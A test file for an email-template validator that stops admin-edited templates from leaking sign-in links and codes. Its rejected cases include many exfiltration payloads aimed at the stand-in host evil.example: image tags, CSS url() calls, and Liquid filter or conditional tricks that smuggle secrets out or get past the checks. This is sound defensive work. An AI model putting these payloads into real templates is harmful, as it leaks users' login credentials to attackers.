import { describe, expect, it } from 'vitest';
import { emailTemplates } from '../../database/seed/content/essential/email-templates.ts';
import { languages } from '../language.ts';
import { findRenderedError, findSecretError, splitTags } from './mail-template-secrets.ts';

const siteUrl = 'https://alpaca.example';
const variables = ['first_name', 'message', 'link', 'code', 'booking_link'];
const codeOf = (text: string) => findSecretError('body', text, { variables, siteUrl })?.code;

describe('a template with a link', () => {
  it.each([
    '<p>Hi {{ first_name }}</p><p><a class="button" href="{{ link }}">Open</a></p>',
    "<p><a href='{{link}}'>{{ link }}</a> or the code <strong>{{ code }}</strong>.</p>",
    '<p>Code:</p><p>{{ code }}</p><p>({{ link }})</p>',
    '{% if code %}<p>"{{ code }}"</p>{% endif %}{% if first_name == "<img" %}{% endif %}',
    '<a href="{{ booking_link }}">x</a> <a href="mailto:a@b.example">x</a>',
    '<img src="https://alpaca.example/logo.png" alt="Alpaca"> https://alpaca.example/privacy',
    '<p style="color: red">5 < 6</p>',
  ])('may contain %s', (text) => {
    expect(codeOf(text)).toBeUndefined();
  });

  it.each([
    '<img src="https://evil.example/p?{{ link }}{{ code }}">',
    '<img src="https://alpaca.example/p?{{ link }}">',
    '<img src="{{ link }}">',
    '<img src=https://evil.example/{{ code }}>',
    '<img alt=">" src="{{ link }}">',
    '<img src="https://evil.example/?{{ link }}"',
    '<a href="https://evil.example/?{{ link }}">x</a>',
    '<a href="{{ link }}.evil.example">x</a>',
    '<a href="{% if code %}https://evil.example/{% endif %}{{ link }}">x</a>',
    '<p title="{{ code }}">x</p>',
    '<p style="background: url(https://evil.example/{{ code }})">x</p>',
    'https://evil.example/?{{ link }}',
    'https://evil.example/<b>{{ code }}</b>',
    'https://evil.example/{% if code %}{{ code }}{% endif %}',
    'https://evil.example/ {{- code }}',
    'https://evil.example/{{ "" -}} {{ code }}',
    '{{ code }}.evil.example',
    '{{ message }}{{ link }}',
    '{{ link | prepend: "https://evil.example/?" }}',
    '{{ "https://evil.example/?" | append: link }}',
    '<!-- {{ link }} -->',
    '{% if code == "z" %} {% endif %}{{ link }}',
    '{% if code %}https://evil.example/?{% else %} {% endif %}{{ link }}',
    '{{ link }}{% if code %}.evil.example{% endif %} ',
    '<{% if code == "z" %} {% endif %}img alt=">" src="https:/{% if code == "z" %} {% endif %}/evil.example/? {{ link }} ">',
    '<{% if code == "z" %} {% endif %}img src="https:/{% if code == "z" %} {% endif %}/evil.example/? {{ link }} ">',
    '<{{ "img" }} src="{{ link }}">',
  ])('is rejected if it leaks the link: %s', (text) => {
    expect(codeOf(text)).toBe('secret_misplaced');
  });

  it.each([
    ['<img src="https://evil.example/pixel.gif">', 'foreign_content'],
    ['<img src="//evil.example/pixel.gif">', 'foreign_content'],
    ['<img src="https://alpaca.example.evil.example/x.png">', 'foreign_content'],
    ['<img srcset="https://alpaca.example/x.png">', 'foreign_content'],
    ['<td background="https://evil.example/x.png">', 'foreign_content'],
    ['<p style="background: u\\72l(x)">', 'foreign_content'],
    ['<a href="https://evil.example">Sign in</a>', 'foreign_link'],
    ['<a href="https://alpaca.example@evil.example/">Sign in</a>', 'foreign_link'],
    ['Sign in at https://evil.example', 'foreign_link'],
    [
      `<img src="https://alpaca.example{% if code == 'z' %}/{% endif %}.evil.example/x.png">`,
      'foreign_content',
    ],
    [
      `<a href="https://alpaca.example{% if code == 'z' %}/{% endif %}.evil.example/">x</a>`,
      'foreign_content',
    ],
    ['<p title="{% if code %}x{% endif %}">x</p>', 'foreign_content'],
    ['<p {% if code %}class="x"{% endif %}>x</p>', 'foreign_content'],
    ['<{% if code == "z" %} {% endif %}style>x</style>', 'foreign_content'],
    ['<style>x</style>', 'foreign_content'],
    [`<p style="{{ 'background:u' }}{{ 'rl(//evil.example)' }}">x</p>`, 'foreign_content'],
    [`<a href="{{ 'https://evil.example/' }}">x</a>`, 'foreign_link'],
    ["https:/{% if code == 'z' %} {% endif %}/evil.example", 'foreign_link'],
    ["{{ 'https:/' }}/evil.example", 'foreign_link'],
  ])('is rejected if it loads from or links to other sites: %s', (text, code) => {
    expect(codeOf(text)).toBe(code);
  });
});

const link = 'https://alpaca.example/me/••••';

it.each([
  [`<p>Hi</p><a href="${link}">${link}</a> <img src="https://alpaca.example/x.png">`, undefined],
  ['<a href="https://book.example/x">x</a> 5 < 6', undefined],
  [`<img alt=">" src="https://evil.example/? ${link} ">`, 'foreign_content'],
  [`<img alt="x" src="https://evil.example/? ${link} ">`, 'secret_misplaced'],
  [`<img alt=${link}>`, 'foreign_content'],
  ['<img src="https://alpaca.example.evil.example/x.png">', 'foreign_content'],
  ['<p style="background:url(//evil.example)">x</p>', 'foreign_content'],
  ['<a href="https://evil.example/">x</a>', 'foreign_link'],
])('checks the rendered mail: %s', (html, code) => {
  const targets = [link, 'https://book.example/x'];
  expect(findRenderedError(html, { siteUrl, targets, masked: [link] })?.code).toBe(code);
});

it.each(['<img alt=">" src="x">', '<img alt=x>', '<!-- x -->', '<img src="x"', '<p/class="x">'])(
  'rejects markup that mail programs parse differently: %s',
  (html) => {
    expect(splitTags(`<p>x</p>${html}`)).toBeUndefined();
  },
);

it('does not check templates without links and codes', () => {
  const text = '<img src="https://other.example/x.png">';
  expect(findSecretError('body', text, { variables: ['first_name'], siteUrl })).toBeUndefined();
});

it.each(emailTemplates.map((template) => [template.key, template] as const))(
  'the built-in text is fine: %s',
  (_, { subject, body, variables: names }) => {
    for (const language of languages) {
      const means = { variables: names, siteUrl };
      expect(findSecretError('subject', subject[language], means)).toBeUndefined();
      expect(findSecretError('body', body[language], means)).toBeUndefined();
    }
  },
);
